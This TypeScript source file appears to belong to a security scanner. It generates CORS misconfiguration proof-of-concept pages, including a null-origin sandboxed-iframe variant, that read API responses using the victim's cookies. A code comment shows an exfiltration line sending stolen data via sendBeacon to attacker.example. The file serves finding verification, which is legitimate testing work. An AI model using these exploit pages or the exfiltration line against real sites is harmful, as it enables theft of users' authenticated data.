/**
 * The exploit page of `scan --prove`: the HTML an attacker would publish on
 * the origin the API trusts, as PortSwigger's CORS labs teach it
 * (https://portswigger.net/web-security/cors#server-generated-acao-header-from-client-specified-origin-header).
 * The same script runs in Chromium for the proof and is printed for the user
 * to copy. It reads the answer with the victim's cookies and shows it; a real
 * attacker would send it home instead (the comment says where).
 *
 * Everything from the finding (URL, method, headers) is written as JSON with
 * `<` escaped, so no value can close the script element or start a comment:
 * https://html.spec.whatwg.org/multipage/scripting.html#restrictions-for-contents-of-script-elements
 */

/** The request the scan sent and saw trusted: the structural shape of scan's `Finding.request`. */
export interface ProvableRequest {
  url: string;
  method: string;
  headers: Record<string, string>;
  /** The Origin the API trusted (`null` for the null origin). */
  origin: string;
  credentials: boolean;
  /** `name=value; name2=value2`, set into the browser for the target before the exploit runs. */
  cookie?: string;
}

/** What the page leaves in `window.exploit` once the fetch settled: the proof reads it. */
export interface ExploitOutcome {
  read: boolean;
  status: number | null;
  text: string;
}

/** JSON that is safe inside a script element (and inside an attribute once the attribute is escaped). */
const scriptJson = (value: unknown): string => JSON.stringify(value).replace(/</g, '\\u003c');

const attributeText = (text: string): string => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;');

/** The script of the exploit: fetch with the victim's cookies, then show what came back. */
export function exploitScript(request: ProvableRequest): string {
  const init = {
    method: request.method,
    credentials: request.credentials ? 'include' : 'omit',
    ...(Object.keys(request.headers).length ? { headers: request.headers } : {}),
  };
  return [
    `window.exploit = fetch(${scriptJson(request.url)}, ${scriptJson(init)})`,
    '  .then(async (response) => ({ read: true, status: response.status, text: await response.text() }))',
    '  .catch((error) => ({ read: false, status: null, text: String(error) }))',
    '  .then((outcome) => {',
    "    document.getElementById('stolen').textContent = outcome.text;",
    "    // A real attacker sends it home, e.g. navigator.sendBeacon('https://attacker.example/log', outcome.text);",
    '    return outcome;',
    '  });',
  ].join('\n');
}

const page = (title: string, body: string): string =>
  `<!doctype html>\n<meta charset="utf-8">\n<link rel="icon" href="data:,">\n<title>${title}</title>\n${body}\n`;

/** The document whose origin is the attacker's: served on it, or opaque by the sandbox policy it is served with. */
export function exploitDocument(request: ProvableRequest): string {
  return page('CORS exploit', `<pre id="stolen">reading...</pre>\n<script>\n${exploitScript(request)}\n</script>`);
}

/**
 * The page to copy, with where to publish it (an origin, or why any will do).
 * For the null origin, the exploit runs in a sandboxed
 * iframe without `allow-same-origin`: its origin is opaque, so its requests
 * say `Origin: null` (https://html.spec.whatwg.org/multipage/browsers.html#sandboxing).
 */
export function copyableExploit(request: ProvableRequest, publishOn: string): string {
  if (request.origin !== 'null') return `<!-- Publish on ${publishOn} -->\n${exploitDocument(request)}`;
  const framed = attributeText(exploitDocument(request));
  return `<!-- Publish on any origin: the sandboxed frame sends Origin: null -->\n${page(
    'CORS exploit (null origin)',
    `<iframe sandbox="allow-scripts" srcdoc="${framed}"></iframe>`,
  )}`;
}
